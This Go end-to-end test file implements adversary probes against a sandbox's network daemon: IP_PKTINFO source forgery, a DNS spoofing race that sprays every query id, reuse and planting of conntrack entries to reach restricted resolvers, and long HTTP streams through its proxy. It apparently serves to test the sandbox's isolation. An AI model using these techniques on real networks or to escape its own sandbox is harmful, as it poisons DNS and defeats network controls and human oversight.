//go:build e2e

package main

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/miekg/dns"
)

// More of the adversary's tools against the shared namespace (issue 14). A process without
// capabilities may send from any loopback address with IP_PKTINFO (the socket bound to another
// loopback address on the wanted port), may read every socket's ports in /proc/net/udp, and may
// bind a port netd just let go: a packet that so matches a direction of one of netd's conntrack
// entries is "established" for the ruleset, which accepts it before any rule about sources or
// uids is reached. The tools answer netd's queries that way, reuse its finished flows, plant
// entries its later queries follow, and hold long HTTP exchanges through its proxy.

const ns2Usage = `       claude net pktinfo-send BIND SRC DST            one datagram from a socket bound to BIND, with source SRC (IP_PKTINFO)
       claude net spoof-race NAME ANSWER SECONDS       watch /proc/net/udp for netd's queries to 127.0.0.11:53 and answer
                                                    each with every DNS id, NAME → ANSWER, forged from Docker's resolver
       claude net reuse-flow NAME SECONDS              watch /proc/net/udp for netd's DNS queries; once one's socket is
                                                    gone, bind its address and port and ask its server for NAME along
                                                    netd's conntrack entry
       claude net plant SECONDS                        for SECONDS, every 10 s, send one byte from every free ephemeral port
                                                    of 127.0.0.1 to 127.0.0.11:53: each becomes a conntrack entry that a
                                                    later query of netd's from that port follows, to netd's own resolver
       claude net http-stream drip|sink ADDR:PORT HOST SECONDS MARKER
                                                    one long HTTP exchange with testsrv: a slow download or upload`

// ns2Probe runs one of the tools of this file, or reports that args are not one.
func ns2Probe(args []string) (map[string]any, bool) {
	switch args[0] {
	case "pktinfo-send":
		return pktinfoSend(args[1:]), true
	case "spoof-race":
		return spoofRace(args[1:]), true
	case "reuse-flow":
		return reuseFlow(args[1:]), true
	case "plant":
		return plant(args[1:]), true
	case "http-stream":
		return httpStream(args[1:]), true
	}
	return nil, false
}

// udpSocket is one line of /proc/net/udp.
type udpSocket struct {
	Local, Remote netipPort
	UID           int
}

// netipPort is an IPv4 address and port as /proc/net/udp has them.
type netipPort struct {
	IP   [4]byte
	Port int
}

func (a netipPort) String() string {
	return fmt.Sprintf("%d.%d.%d.%d:%d", a.IP[0], a.IP[1], a.IP[2], a.IP[3], a.Port)
}

// parseProcAddr reads "0100007F:3BF9": the address in host (little-endian) order, the port in hex.
func parseProcAddr(s string) (netipPort, error) {
	h, p, ok := strings.Cut(s, ":")
	if !ok || len(h) != 8 {
		return netipPort{}, fmt.Errorf("address %q", s)
	}
	v, err := strconv.ParseUint(h, 16, 32)
	if err != nil {
		return netipPort{}, err
	}
	port, err := strconv.ParseUint(p, 16, 16)
	if err != nil {
		return netipPort{}, err
	}
	var a netipPort
	binary.LittleEndian.PutUint32(a.IP[:], uint32(v))
	a.Port = int(port)
	return a, nil
}

// readUDPSockets parses /proc/net/udp: every UDP socket of the namespace, whoever owns it.
func readUDPSockets() ([]udpSocket, error) {
	data, err := os.ReadFile("/proc/net/udp")
	if err != nil {
		return nil, err
	}
	var out []udpSocket
	for _, l := range strings.Split(string(data), "\n")[1:] {
		f := strings.Fields(l)
		if len(f) < 8 {
			continue
		}
		loc, err1 := parseProcAddr(f[1])
		rem, err2 := parseProcAddr(f[2])
		uid, err3 := strconv.Atoi(f[7])
		if errors.Join(err1, err2, err3) != nil {
			continue
		}
		out = append(out, udpSocket{Local: loc, Remote: rem, UID: uid})
	}
	return out, nil
}

// forger sends datagrams whose source is any local (loopback) address: the socket is bound to
// another loopback address on the wanted port, and IP_PKTINFO names the source of each packet.
type forger struct {
	fd  int
	oob []byte
}

// newForger binds a UDP socket to bind and forges src as the source address of what it sends.
func newForger(bind *net.UDPAddr, src net.IP) (*forger, error) {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, 0)
	if err != nil {
		return nil, err
	}
	if err := syscall.Bind(fd, sockaddr(bind)); err != nil {
		syscall.Close(fd)
		return nil, fmt.Errorf("bind %s: %w", bind, err)
	}
	// struct cmsghdr { u64 len; i32 level; i32 type } + struct in_pktinfo { i32 ifindex; spec_dst; addr }.
	oob := make([]byte, syscall.CmsgSpace(12))
	binary.NativeEndian.PutUint64(oob[0:], uint64(syscall.CmsgLen(12)))
	binary.NativeEndian.PutUint32(oob[8:], syscall.IPPROTO_IP)
	binary.NativeEndian.PutUint32(oob[12:], syscall.IP_PKTINFO)
	copy(oob[syscall.CmsgLen(0)+4:], src.To4())
	return &forger{fd: fd, oob: oob}, nil
}

func (f *forger) send(b []byte, to *net.UDPAddr) error {
	return syscall.Sendmsg(f.fd, b, f.oob, sockaddr(to), 0)
}

func (f *forger) close() { syscall.Close(f.fd) }

// pktinfoSend sends one datagram from a socket bound to BIND, forging SRC as its source address:
// ok when the kernel sent it (the ruleset may still refuse it, which is an error here).
func pktinfoSend(args []string) map[string]any {
	if len(args) < 3 {
		return map[string]any{"ok": false, "error": "need BIND SRC DST"}
	}
	bind, err1 := net.ResolveUDPAddr("udp4", args[0])
	dst, err2 := net.ResolveUDPAddr("udp4", args[2])
	src := net.ParseIP(args[1])
	if err := errors.Join(err1, err2); err != nil || src.To4() == nil {
		return map[string]any{"ok": false, "error": fmt.Sprintf("bad arguments: %v", err)}
	}
	f, err := newForger(bind, src)
	if err != nil {
		return failed(err)
	}
	defer f.close()
	if err := f.send([]byte("forged"), dst); err != nil {
		return failed(fmt.Errorf("sendmsg: %w", err))
	}
	return map[string]any{"ok": true}
}

// dockerResolverPort is the UDP port Docker's embedded resolver really listens on at 127.0.0.11
// (its nat rules DNAT port 53 there), as /proc/net/udp shows it to anyone.
func dockerResolverPort() (int, error) {
	socks, err := readUDPSockets()
	if err != nil {
		return 0, err
	}
	for _, s := range socks {
		if s.Local.IP == [4]byte{127, 0, 0, 11} && s.Remote.Port == 0 {
			return s.Local.Port, nil
		}
	}
	return 0, errors.New("no UDP socket on 127.0.0.11")
}

// spoofRace answers netd's upstream queries for NAME before Docker can. It polls /proc/net/udp
// for sockets connected to 127.0.0.11:53 — netd's queries, whose local port anyone can read
// there — and sends each one answer per DNS id (65,536), NAME A ANSWER, from Docker's resolver
// address and real port: the source of the reply netd waits for; again while the query waits,
// up to [sprayRounds] times. ok when a query was answered by every id.
func spoofRace(args []string) map[string]any {
	if len(args) < 3 {
		return map[string]any{"ok": false, "error": "need NAME ANSWER SECONDS"}
	}
	answer := net.ParseIP(args[1]).To4()
	secs, err := strconv.Atoi(args[2])
	if answer == nil || err != nil {
		return map[string]any{"ok": false, "error": "ANSWER must be an IPv4 address and SECONDS a number"}
	}
	rport, err := dockerResolverPort()
	if err != nil {
		return failed(err)
	}
	sp, err := newSprayer(dns.Fqdn(args[0]), answer, rport)
	if err != nil {
		return failed(err)
	}
	defer sp.close()
	// A query is sprayed again, up to sprayRounds times, while its socket is still open: a
	// querier slow to read (a loaded machine) overflows its socket's buffer and drops most of one
	// spray, perhaps the one right id among them.
	rounds := map[int]int{}
	spraying := map[int]<-chan struct{}{}
	var sprayed []int
	for deadline := time.Now().Add(time.Duration(secs) * time.Second); time.Now().Before(deadline); {
		socks, _ := readUDPSockets()
		for _, s := range socks {
			port := s.Local.Port
			if s.Remote.IP != [4]byte{127, 0, 0, 11} || s.Remote.Port != 53 || rounds[port] >= sprayRounds {
				continue
			}
			if done, ok := spraying[port]; ok {
				select {
				case <-done:
				default:
					continue // its last spray is still being sent
				}
			}
			if rounds[port] == 0 {
				sprayed = append(sprayed, port)
			}
			rounds[port]++
			spraying[port] = sp.spray(&net.UDPAddr{IP: net.IP(s.Local.IP[:]), Port: port})
		}
		time.Sleep(500 * time.Microsecond)
	}
	sp.wg.Wait()
	res := map[string]any{"ok": len(sprayed) > 0, "docker_port": rport, "sprayed_ports": sprayed,
		"sent": sp.sent.Load(), "send_errors": sp.errs.Load(), "spray_ms": sp.ms.Load()}
	if e := sp.firstErr.Load(); e != nil {
		res["first_send_error"] = e
	}
	return res
}

// sprayer sends one forged answer per DNS id to a port, from Docker's resolver address: the
// ids are shared among [sprayWorkers] sockets, each bound to a loopback address of its own on
// Docker's port.
type sprayer struct {
	tmpl    []byte // the answer, id 0
	forgers []*forger

	wg       sync.WaitGroup
	sent     atomic.Int64
	errs     atomic.Int64
	ms       atomic.Int64 // how long the last spray took
	firstErr atomic.Value
}

func newSprayer(name string, answer net.IP, port int) (*sprayer, error) {
	msg := new(dns.Msg)
	msg.SetQuestion(name, dns.TypeA)
	msg.Response, msg.RecursionAvailable = true, true
	msg.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 3600}, A: answer}}
	tmpl, err := msg.Pack()
	if err != nil {
		return nil, err
	}
	sp := &sprayer{tmpl: tmpl}
	for w := range sprayWorkers {
		f, err := newForger(&net.UDPAddr{IP: net.IPv4(127, 0, 20, byte(1+w)), Port: port}, net.IPv4(127, 0, 0, 11))
		if err != nil {
			sp.close()
			return nil, err
		}
		sp.forgers = append(sp.forgers, f)
	}
	return sp, nil
}

// spray sends every id to to, in the background; the channel it returns is closed when all
// are sent.
func (sp *sprayer) spray(to *net.UDPAddr) <-chan struct{} {
	var one sync.WaitGroup
	done := make(chan struct{})
	for w, f := range sp.forgers {
		sp.wg.Add(1)
		one.Add(1)
		go func() {
			defer sp.wg.Done()
			defer one.Done()
			start := time.Now()
			b := append([]byte(nil), sp.tmpl...)
			for id := w; id < 1<<16; id += len(sp.forgers) {
				binary.BigEndian.PutUint16(b, uint16(id))
				if err := f.send(b, to); err != nil {
					sp.errs.Add(1)
					sp.firstErr.CompareAndSwap(nil, err.Error())
				} else {
					sp.sent.Add(1)
				}
			}
			sp.ms.Store(time.Since(start).Milliseconds())
		}()
	}
	go func() { one.Wait(); close(done) }()
	return done
}

func (sp *sprayer) close() {
	for _, f := range sp.forgers {
		f.close()
	}
}

// sprayWorkers is how many sockets share the 65,536 ids of one spray.
const sprayWorkers = 4

// sprayRounds is how many times spoof-race sprays one query.
const sprayRounds = 4

// plant runs [plantAll] every 10 s for SECONDS: ok when it sent anything.
func plant(args []string) map[string]any {
	if len(args) < 1 {
		return map[string]any{"ok": false, "error": "need SECONDS"}
	}
	secs, _ := strconv.Atoi(args[0])
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	rounds, sent := 0, 0
	for time.Now().Before(deadline) {
		sent += plantAll()
		rounds++
		time.Sleep(min(10*time.Second, time.Until(deadline)))
	}
	return map[string]any{"ok": sent > 0, "sent": sent, "rounds": rounds}
}

// plantAll sends one byte from every free ephemeral port of 127.0.0.1 to 127.0.0.11:53 and
// returns how many it sent.
func plantAll() int {
	n := 0
	dst := &syscall.SockaddrInet4{Port: 53, Addr: [4]byte{127, 0, 0, 11}}
	for p := ephemeralLo; p <= ephemeralHi; p++ {
		fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, 0)
		if err != nil {
			continue
		}
		if syscall.Bind(fd, &syscall.SockaddrInet4{Port: p, Addr: [4]byte{127, 0, 0, 1}}) == nil &&
			syscall.Sendto(fd, []byte{0}, 0, dst) == nil {
			n++
		}
		syscall.Close(fd)
	}
	return n
}

// httpStream holds one long plain-HTTP exchange with testsrv through netd's HTTP proxy, which
// decided on the Host once, at the start: drip downloads /drip/SECONDS, a line every 200 ms;
// sink uploads a line every 200 ms for SECONDS as the chunked body of POST /sink. MARKER is
// created once the first line went through. ok when the exchange lasted; else when it broke.
func httpStream(args []string) map[string]any {
	if len(args) < 5 || (args[0] != "drip" && args[0] != "sink") {
		return map[string]any{"ok": false, "error": "need drip|sink ADDR:PORT HOST SECONDS MARKER"}
	}
	mode, host, marker := args[0], args[2], args[4]
	secs, _ := strconv.Atoi(args[3])
	c, err := net.DialTimeout("tcp4", args[1], 5*time.Second)
	if err != nil {
		return failed(err)
	}
	defer c.Close()
	start := time.Now()
	broke := func(rounds int, err error) map[string]any {
		return map[string]any{"ok": false, "error": err.Error(), "rounds": rounds, "broke_after_s": time.Since(start).Seconds()}
	}
	touch := func() {
		if f, err := os.Create(marker); err == nil {
			f.Close()
		}
	}
	r := bufio.NewReader(c)
	if mode == "drip" {
		fmt.Fprintf(c, "GET /drip/%d HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", secs, host)
		rounds := 0
		for {
			c.SetReadDeadline(time.Now().Add(3 * time.Second))
			l, err := r.ReadString('\n')
			if err != nil {
				if rounds == secs*5 {
					return map[string]any{"ok": true, "rounds": rounds}
				}
				return broke(rounds, err)
			}
			if strings.HasPrefix(l, "drip ") {
				if rounds++; rounds == 1 {
					touch()
				}
			}
		}
	}
	fmt.Fprintf(c, "POST /sink HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n", host)
	rounds := 0
	for time.Since(start) < time.Duration(secs)*time.Second {
		line := fmt.Sprintf("sink %d\n", rounds)
		c.SetWriteDeadline(time.Now().Add(3 * time.Second))
		if _, err := fmt.Fprintf(c, "%x\r\n%s\r\n", len(line), line); err != nil {
			return broke(rounds, err)
		}
		if rounds++; rounds == 1 {
			touch()
		}
		time.Sleep(200 * time.Millisecond)
	}
	fmt.Fprint(c, "0\r\n\r\n")
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	status, err := r.ReadString('\n')
	if err != nil {
		return broke(rounds, fmt.Errorf("status: %w", err))
	}
	return map[string]any{"ok": strings.Contains(status, " 200 "), "rounds": rounds, "reply": strings.TrimSpace(status)}
}

// reuseFlow watches /proc/net/udp for netd's DNS queries (uid NetdUID, remote port 53, to
// Docker's resolver or the host's) and, once a query's socket is closed, binds its address and
// port itself and asks the same server for NAME: conntrack still holds netd's entry, so the
// ruleset's "established" would let the datagram through to a resolver only netd may reach,
// and the answer back. ok when a server answered; the answers and each server are reported.
func reuseFlow(args []string) map[string]any {
	if len(args) < 2 {
		return map[string]any{"ok": false, "error": "need NAME SECONDS"}
	}
	secs, _ := strconv.Atoi(args[1])
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	open := map[udpSocket]bool{}
	tried := map[udpSocket]bool{}
	var answered, servers, attempts []string
	for time.Now().Before(deadline) {
		socks, _ := readUDPSockets()
		now := map[udpSocket]bool{}
		for _, s := range socks {
			if s.UID == netdUID && s.Remote.Port == 53 {
				now[s] = true
				open[s] = true
			}
		}
		for s := range open {
			if now[s] || tried[s] {
				continue
			}
			tried[s] = true
			delete(open, s)
			attempts = append(attempts, s.Local.String()+"->"+s.Remote.String())
			if ans, err := askFrom(s.Local, s.Remote, args[0]); err == nil {
				answered = append(answered, ans...)
				servers = append(servers, s.Remote.String())
			}
		}
		time.Sleep(time.Millisecond)
	}
	return map[string]any{"ok": len(servers) > 0, "answers": answered, "servers": servers, "attempts": len(attempts)}
}

// netdUID is policy.NetdUID (the stand-in does not import abox).
const netdUID = 990

// askFrom sends one A query for name from local to server and waits a second for the reply.
func askFrom(local, server netipPort, name string) ([]string, error) {
	c, err := net.DialUDP("udp4", &net.UDPAddr{IP: net.IP(local.IP[:]), Port: local.Port},
		&net.UDPAddr{IP: net.IP(server.IP[:]), Port: server.Port})
	if err != nil {
		return nil, err
	}
	defer c.Close()
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(name), dns.TypeA)
	b, _ := q.Pack()
	if _, err := c.Write(b); err != nil {
		return nil, err
	}
	c.SetReadDeadline(time.Now().Add(time.Second))
	buf := make([]byte, 4096)
	n, err := c.Read(buf)
	if err != nil {
		return nil, err
	}
	r := new(dns.Msg)
	if err := r.Unpack(buf[:n]); err != nil {
		return nil, err
	}
	out := []string{dns.RcodeToString[r.Rcode]}
	for _, rr := range r.Answer {
		if a, ok := rr.(*dns.A); ok {
			out = append(out, a.A.String())
		}
	}
	return out, nil
}
